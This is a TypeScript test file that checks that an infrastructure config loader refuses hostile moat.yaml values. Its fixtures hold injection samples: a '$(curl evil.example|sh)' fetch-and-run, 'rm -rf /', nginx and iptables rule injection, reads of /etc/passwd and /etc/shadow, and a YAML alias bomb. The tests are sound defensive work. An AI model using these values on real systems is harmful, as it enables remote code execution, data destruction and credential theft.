// Hostile moat.yaml files: each value that would land in a rendered artifact
// (nginx.conf, the firewall files, HCL, a shell script) with syntax of its own
// is refused at load with a located finding, and what the YAML parser could
// be made to do (expand aliases, recurse, read bytes that are not text) is
// bounded. Each row failed (rendered or crashed) before the loader checked it.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { loadPlatform } from '../../src/cli/load-platform.js';
import { UserInputError } from '../../src/model/findings.js';
import { renderBundle } from '../../src/render/registry.js';
import { findingsOf, loadText, makeTempDir, summary, yamlText } from './config-helpers.js';

const temp = makeTempDir();
afterAll(() => temp.cleanup());

type Row = readonly [name: string, lines: readonly string[], code: string, path: string, line: number];

const rows: readonly Row[] = [
  [
    'a tailnet name that would add an nginx route',
    ['host:', '  tailscale:', '    tailnet: "x;}} server { listen 8443; location / { proxy_pass http://172.20.0.10:11434; } #"'],
    'config.invalid-value',
    'host.tailscale.tailnet',
    3,
  ],
  [
    'a tailnet name with a newline',
    ['host:', '  tailscale:', '    tailnet: "ts.net\\n-A INPUT -j ACCEPT"'],
    'config.invalid-value',
    'host.tailscale.tailnet',
    3,
  ],
  [
    'a public interface that would inject an iptables rule',
    ['host:', '  publicInterface: "eth0 -j ACCEPT\\n-A DOCKER-USER -j ACCEPT"'],
    'config.invalid-value',
    'host.publicInterface',
    2,
  ],
  [
    'a public interface that would run a command in the bootstrap',
    ['host:', '  publicInterface: "eth0$(curl evil.example|sh)"'],
    'config.invalid-value',
    'host.publicInterface',
    2,
  ],
  ['a region with HCL interpolation', ['host:', '  region: "us-east-1${file(\\"/etc/passwd\\")}"'], 'config.invalid-value', 'host.region', 2],
  ['an instance type with a quote', ['host:', '  instanceType: "m7i.large\\" }"'], 'config.invalid-value', 'host.instanceType', 2],
  [
    'a volume that bind-mounts the host root',
    ['services:', '  n8n:', '    volumes:', '      - { name: "/", target: /host, purpose: x }'],
    'config.invalid-value',
    'services.n8n.volumes[0].name',
    4,
  ],
  [
    'a volume target with a mount option',
    ['services:', '  n8n:', '    volumes:', '      - { name: data, target: "/data:rw,shared", purpose: x }'],
    'config.invalid-value',
    'services.n8n.volumes[0].target',
    4,
  ],
  [
    'a volume from a host file through bundleFile',
    ['services:', '  n8n:', '    volumes:', '      - { name: data, target: /x, purpose: x, bundleFile: /etc/shadow }'],
    'config.unknown-key',
    'services.n8n.volumes[0].bundleFile',
    4,
  ],
  ['a model name with a shell meta-character', ['models: ["llama3; rm -rf /"]'], 'config.invalid-value', 'models[0]', 1],
  ['a title with a newline (PORTS.md table)', ['services:', '  n8n: { title: "n8n\\n| x | y |" }'], 'config.invalid-value', 'services.n8n.title', 2],
  [
    'a duplicate route path (nginx refuses a duplicate location)',
    ['routes:', '  - { path: /n8n, service: n8n, port: 5678, prefix: strip }'],
    'config.duplicate-route',
    'routes[0].path',
    2,
  ],
  [
    "a route that takes / of the main origin from the console (every app's path lives under it)",
    ['routes:', '  - { path: /, service: n8n, port: 5678, prefix: native }'],
    'config.invalid-value',
    'routes[0].path',
    2,
  ],
  [
    'a second route to the console at /',
    ['routes:', '  - { path: /, service: console, port: 8080, prefix: native }'],
    'config.duplicate-route',
    'routes[0].path',
    2,
  ],
  [
    'the console switched off and / given to another app',
    ['services:', '  console: { enabled: false }', 'routes:', '  - { path: /, service: n8n, port: 5678, prefix: native }'],
    'config.invalid-value',
    'routes[0].path',
    4,
  ],
  [
    'the console at / of an origin of its own (the main origin would redirect /, its every path, there)',
    ['routes:', '  - { path: //, service: console, port: 8080, prefix: native, originPort: 8449 }'],
    'config.duplicate-route',
    'routes[0].path',
    2,
  ],
  [
    'an app without base-path support and no origin port',
    ['routes:', '  - { path: /tool, service: n8n, port: 5678, prefix: none }'],
    'config.route-needs-origin',
    'routes[0].originPort',
    2,
  ],
  [
    'an origin port that is the main origin',
    ['routes:', '  - { path: /tool, service: n8n, port: 5678, prefix: none, originPort: 8443 }'],
    'config.origin-port-taken',
    'routes[0].originPort',
    2,
  ],
  [
    'an origin port another app has',
    ['routes:', '  - { path: /tool, service: n8n, port: 5678, prefix: none, originPort: 8444 }'],
    'config.origin-port-taken',
    'routes[0].originPort',
    2,
  ],
  [
    'the rewrite mode is gone (it corrupted app code)',
    ['routes:', '  - { path: /tool, service: n8n, port: 5678, prefix: rewrite }'],
    'config.invalid-value',
    'routes[0].prefix',
    2,
  ],
  [
    'YAML: an alias bomb',
    [
      'a: &a ["x","x","x","x","x","x","x","x","x","x"]',
      'b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a]',
      'c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b,*b]',
      'd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c,*c]',
      'e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d,*d]',
    ],
    'config.yaml-aliases',
    'moat.yaml',
    2,
  ],
];

describe('hostile moat.yaml: refused at load, located', () => {
  it.each(rows)('%s', async (_name, lines, code, path, line) => {
    const findings = await findingsOf(temp.dir, yamlText(lines));
    expect(summary(findings)).toContainEqual([code, path, line]);
  });

  it('refuses absurd nesting quickly, before the recursive parser', async () => {
    const started = performance.now();
    const findings = await findingsOf(temp.dir, `a: ${'['.repeat(100_000)}\n`);
    expect(summary(findings)).toEqual([['config.yaml-too-deep', 'moat.yaml', 1]]);
    expect(performance.now() - started).toBeLessThan(5_000);
  });

  it('refuses bytes that are not UTF-8 at the line they are on, instead of replacing them', async () => {
    writeFileSync(join(temp.dir, 'latin1.yaml'), Buffer.concat([Buffer.from('project: ai\nhost:\n  region: caf'), Buffer.from([0xe9]), Buffer.from('\n')]));
    const error = await loadPlatform({ cwd: temp.dir, configPath: 'latin1.yaml' }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(UserInputError);
    expect(summary((error as UserInputError).findings)).toEqual([['config.not-utf8', 'latin1.yaml', 3]]);
  });

  it('loads a legitimate file with many aliases (shared settings)', async () => {
    const services = Array.from({ length: 60 }, (_, i) => `  tool${i}: { <<: *tool, address: 172.20.1.${i + 10} }`);
    const text = yamlText([
      'x-tool: &tool',
      '  image: ghcr.io/acme/tool:1.2.3',
      '  ports: [{ port: 9000, protocol: tcp, purpose: API }]',
      'services:',
      ...services,
    ]);
    // `x-` keys are not moat's: the point is that the aliases expand without a crash.
    const findings = await findingsOf(temp.dir, text);
    expect(findings.map((f) => f.code)).not.toContain('config.yaml-aliases');
    expect(findings.every((f) => f.location !== undefined)).toBe(true);
  });

  it('moves the SSH rule of the policy with the SSH port, so moving sshd is not a finding', async () => {
    const { platform } = await loadText(temp.dir, yamlText(['host:', '  sshPort: 2222']));
    const ssh = platform.policy.allow.filter((r) => r.zone === 'admin');
    expect(ssh.map((r) => `${r.port}/${r.protocol}`)).toEqual(['2222/tcp']);
  });

  it('renders a valid tailnet name and interface into every artifact unchanged (the checks do not refuse real names)', async () => {
    const { platform } = await loadText(
      temp.dir,
      yamlText(['host:', '  publicInterface: ens5', '  tailscale:', '    tailnet: tail1a2b3.ts.net', '    hostname: box-1']),
    );
    const files = renderBundle(platform).files;
    expect(files.find((f) => f.path === 'nginx/nginx.conf')?.content).toContain('server_name box-1.tail1a2b3.ts.net box-1;');
  });
});
